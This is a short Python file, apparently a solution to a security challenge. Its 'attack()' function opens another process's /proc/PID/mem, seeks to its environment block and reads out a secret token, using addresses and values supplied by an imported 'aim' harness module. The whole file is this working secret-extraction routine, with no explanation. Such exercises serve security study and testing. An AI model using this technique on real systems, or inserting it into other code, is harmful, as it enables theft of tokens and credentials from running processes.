import aim


def attack():
    with open(f"/proc/{aim.PID}/mem", "rb", buffering=0) as memory:
        memory.seek(aim.ENVIRONMENT_AT)
        return memory.read(6 + len(aim.TOKEN))[6:].decode()
